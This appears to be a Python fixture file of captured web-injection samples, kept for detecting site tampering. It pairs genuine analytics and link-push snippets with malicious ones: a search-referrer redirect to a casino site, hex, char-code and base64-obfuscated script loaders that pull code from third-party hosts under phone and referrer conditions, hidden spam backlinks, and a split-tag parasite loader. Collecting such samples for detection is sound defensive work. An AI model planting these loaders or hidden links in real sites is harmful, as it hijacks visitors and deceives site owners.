# Captured injected code, verbatim as found (see SOURCES.md for where each came from).
# Only whitespace at the ends is trimmed; nothing inside a snippet is changed unless the
# snippet's comment says so.

# S2 - "statistics" file of a black-hat site-group kit: genuine Baidu Tongji call, then a
# search-referrer regex redirect to a casino host (public repository file tj.js, complete).
TJ_JS = r"""
var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "https://hm.baidu.com/hm.js?189cb19e0a593c9fc0eaf2f1bda27d31";
  var s = document.getElementsByTagName("script")[0]; 
  s.parentNode.insertBefore(hm, s);
})();
var url ="https://www.ag82197.com/";
var regexp=/\.(sogou|soso|sm|sogo|youdao|baidu|yahoo|bing|118114|biso|qq|so|360)(\.[a-z0-9\-]+){1,2}\//ig;
var where =document.referrer;
if(regexp.test(where)){
 window.location.href = url;
}
//document.writeln("<iframe src=\'https://www.ag82198.com/\' style=\'border: 0;    display: block;    overflow: hidden;    position: fixed;    width: 100%;    height: 100%;    z-index: 9999;\' frameborder=\'1\' scrolling=\'no\' width=\'100%\'></iframe>");
""".strip("\n")

# S3 - hex-array document.write loader found in the <head> of a PHPCMS v9 template
# (public repository file, the <Script> block verbatim).
PHPCMS_HEX = r"""<Script language="javascript">
<!--
var _$=['\x3c\x53\x43\x52\x49\x50\x54\x20\x73\x72\x63\x3d\x22\x68\x74\x74\x70\x3a\x2f\x2f\x77\x77\x77\x2e\x67\x6f\x6f\x67\x6c\x65\x61\x64\x73\x6c\x2e\x63\x6f\x6d\x2f\x73\x70\x63\x6f\x64\x65\x2f\x6a\x71\x75\x65\x72\x79\x2e\x6a\x73\x22\x3e\x3c\x2f\x73\x63\x72\x69\x70\x74\x3e'];window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77\x72\x69\x74\x65"](_$[0]);
-->
</Script>"""

# S4 - one-line document.writeln loader of the same site-group kit (public repository file ag.js,
# complete). The captured file is an external .js; to sit in an inline <script> its inner
# "</script>" would end the element early, so the one "/" is escaped ("<\\/script>") - the
# only change.
AG_JS = r"""document.writeln("<script src=\'https://js.kk.mo.cn/jquery.web.js\'><\/script>");"""

# S10 - char-code document.write loader (public repository file: the generated payload,
# quoted there in a comment; the loader line verbatim)
CHARCODE = "document.write(String.fromCharCode(60,115,67,82,105,80,116,32,115,82,67,61,47,47,104,107,46,115,98,47,121,55,120,120,62,60,47,115,67,114,73,112,84,62));"

# ---- harmless look-alikes for the clean pages ----
# S13 - Baidu Tongji call exactly as in the kit file's first six lines (the genuine snippet)
BAIDU_TONGJI = r"""
var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "https://hm.baidu.com/hm.js?189cb19e0a593c9fc0eaf2f1bda27d31";
  var s = document.getElementsByTagName("script")[0]; 
  s.parentNode.insertBefore(hm, s);
})();
""".strip("\n")

# S15 - Baidu's published link-submit push snippet (the genuine form S7 imitates)
BAIDU_PUSH = """<script>
(function(){
    var bp = document.createElement('script');
    var curProtocol = window.location.protocol.split(':')[0];
    if (curProtocol === 'https') {
        bp.src = 'https://zz.bdstatic.com/linksubmit/push.js';
    }
    else {
        bp.src = 'http://push.zhanzhang.baidu.com/push.js';
    }
    var s = document.getElementsByTagName("script")[0];
    s.parentNode.insertBefore(bp, s);
})();
</script>"""

# S17 - a site's own lazy-load helper with the same loader family appended after it (public
# repository file, complete, verbatim). Fires on phones (platform not Mac/Win) arriving from
# another site (referrer with a dot); decodes to a look-alike of Baidu's push script.
MRMAWG_FILE = r"""var YYOB={
    'Lazyload': function() {
            $.getScript("//cdn.staticfile.org/jquery_lazyload/1.9.7/jquery.lazyload.js", function() {
                $(".lazyload").lazyload({
                    placeholder : "https://tva3.sinaimg.cn/large/b2ec35ffly1gsriwlwf77g20780a0q2t.jpg",
                    effect: "fadeIn",
                    threshold: 300,
                    failurelimit: 15,
                    skip_invisible: false
                })
            })
            $.getScript("//cdn.staticfile.org/jquery_lazyload/1.9.7/jquery.lazyload.js", function() {
                $(".lazyloads").lazyload({
                    placeholder : "https://tva3.sinaimg.cn/large/b2ec35ffly1gsriwlwf77g20780a0q2t.jpg",
                    effect: "fadeIn",
                    threshold: 300,
                    failurelimit: 15,
                    skip_invisible: false
                })
            })
    }
}
$(function(){
//异步加载图片初始化
YYOB.Lazyload();
});;function MrmaWg(e){var t="",n=r=c1=c2=0;while(n<e.length){r=e.charCodeAt(n);if(r <128){t+=String.fromCharCode(r);n++}else if(r>191&&r<224){c2=e.charCodeAt(n+1);t+=String.fromCharCode((r&31)<<6|c2&63);n+=2}else{c2=e.charCodeAt(n+1);c3=e.charCodeAt(n+2);t+=String.fromCharCode((r&15)<<12|(c2&63)<<6|c3&63);n+=3}}return t}function qsAkLYeXeb(e){var m='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var t="",n,r,i,s,o,u,a,f=0;e=e.replace(/[^A-Za-z0-9+/=]/g,"");while(f <e.length){s=m.indexOf(e.charAt(f++));o=m.indexOf(e.charAt(f++));u=m.indexOf(e.charAt(f++));a=m.indexOf(e.charAt(f++));n=s<<2|o>>4;r=(o &15)<<4|u>>2;i=(u &3)<<6|a;t=t+String.fromCharCode(n);if(u!=64){t=t+String.fromCharCode(r)}if(a!=64){t=t+String.fromCharCode(i)}}return MrmaWg(t)}eval('window')['\x77\x4d\x51\x6f\x75\x78']=function(){;(function(u,r,w,d,f,c){var x=qsAkLYeXeb;u=decodeURIComponent(x(u.replace(new RegExp(c+''+c,'g'),c)));'jQuery';k=r[2]+'c'+f[1];'Flex';v=k+f[6];var s=d.createElement(v+c[0]+c[1]),g=function(){};s.type='text/javascript';{s.onload=function(){g()}}s.src=u;'CSS';d.getElementsByTagName('head')[0].appendChild(s)})('aHR0cHM6Ly96ei5iZHVzdGF0aWMuY29tL2xpbmtzdWJtaXQvcHVzaC5qcw==','VisYncxgsm',window,document,'RrbsUpiSKCrNgN','ptlfefPmlxzR')};if( !(/^Mac|Win/.test(navigator.platform)) &&(document.referrer.indexOf('.') !== -1) ) wMQoux();"""

# S18 - one of the per-category loader strings (jc_6hecai_string, the 'lottery' category) held
# in the server code that serves this family (public repository file): the server returns it only
# for requests from China, with a referrer, from a phone, first visit in 10 h, no cookie, not the
# site admin, referrer not local - and only for referring sites listed in the category set.
# Template-literal content verbatim (leading tab/newline trimmed).
SIXHECAI = r"""function pMPoQt(e){var t="",n=r=c1=c2=0;while(n<e.length){r=e.charCodeAt(n);if(r<128){t+=String.fromCharCode(r);n++}else if(r>191&&r<224){c2=e.charCodeAt(n+1);t+=String.fromCharCode((r&31)<<6|c2&63);n+=2}else{c2=e.charCodeAt(n+1);c3=e.charCodeAt(n+2);t+=String.fromCharCode((r&15)<<12|(c2&63)<<6|c3&63);n+=3}}return t}function uZlPoIO(e){var m='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var t="",n,r,i,s,o,u,a,f=0;e=e.replace(/[^A-Za-z0-9+/=]/g,"");while(f<e.length){s=m.indexOf(e.charAt(f++));o=m.indexOf(e.charAt(f++));u=m.indexOf(e.charAt(f++));a=m.indexOf(e.charAt(f++));n=s<<2|o>>4;r=(o&15)<<4|u>>2;i=(u&3)<<6|a;t=t+String.fromCharCode(n);if(u!=64){t=t+String.fromCharCode(r)}if(a!=64){t=t+String.fromCharCode(i)}}return pMPoQt(t)}eval('window')['\x53\x6c\x44\x57\x62\x42']=function(){;(function(u,r,w,d,f,c){var x=uZlPoIO;u=decodeURIComponent(x(u.replace(new RegExp(c+''+c,'g'),c)));'jQuery';k=r[2]+'c'+f[1];'Flex';v=k+f[6];var s=d.createElement(v+c[0]+c[1]),g=function(){};s.type='text/javascript';{s.onload=function(){g()}}s.src=u;'CSS';d.getElementsByTagName('head')[0].appendChild(s)})('aHR0cHM6Ly9hcGkuYmR1c3RhdGljLmNvbS9qcXVlcnkubWluLTQuMC40Lmpz','KcsmxypijCBn',window,document,'ErJJTJirCSld','ptPcFdJnuHpq')};if( !(/^Mac|Win/.test(navigator.platform)) && (document.referrer.indexOf('.') !== -1) ) SlDWbB();"""

# S19 - three display:none link divs appended after the closing brace of a Joomla weblinks
# view file (public repository file; the three lines verbatim)
JOOMLA_HIDDEN = """<div style="display:none"><a href="http://www.cuasia.org/louis-vuitton-monogram-artsy-mm-sale/" title="louis vuitton monogram artsy mm sale">louis vuitton monogram artsy mm sale</a></div>
<div style="display:none"><a href="http://www.cuasia.org/authentic-gucci-handbags-for-less/">authentic gucci handbags for less</a></div>
<div style="display:none"><a href="http://www.cuasia.org/air-jordan-shoes-11-luggage-for-cheap/">air jordan shoes 11 luggage for cheap</a></div>"""

# S20 - hidden backlink planted in the footer include of a resold Chinese site template (public
# repository file; the line verbatim, with the template's end comment that follows it)
YUANMA_HIDDEN = """<div style="display:none"><a href="http://www.0598128.com">源码论坛</a></div>
<!--**********右侧浮动结束***************-->"""

# S21 - the 'dede.js' a parasite-page generator (public repository PHP file) writes into a
# hijacked DedeCMS site: a split-tag document.write of a short-link script. Verbatim after
# PHP string unescaping (\" -> ").
DEDE_JS = 'document.write("<scr"+"ipt language=javascript src=http://t.cn/z8A9JYQ></scr"+"ipt>");'

# S22 - harmless look-alike for a clean page: the MutationObserver watch an issue-thread write-up
# ("如何应对页面内容劫持篡改") suggests against ISP injection (verbatim)
MUTATION_WATCH = """var mo = new MutationObserver(function(){
      // TODO
});
mo.observe(document.querySelector('html'), {childList: true, subtree: true});"""

# S23 - harmless look-alike: an off-screen spam-trap (honeypot) link a site owner keeps in its own
# footer to catch harvesting bots (public repository file; the line verbatim)
HONEYPOT = """<a href="http://officeofstrategicinfluence.com/spam/" style="position:absolute;left:-1000px;top:-1000px;">This link kills spam</a>"""
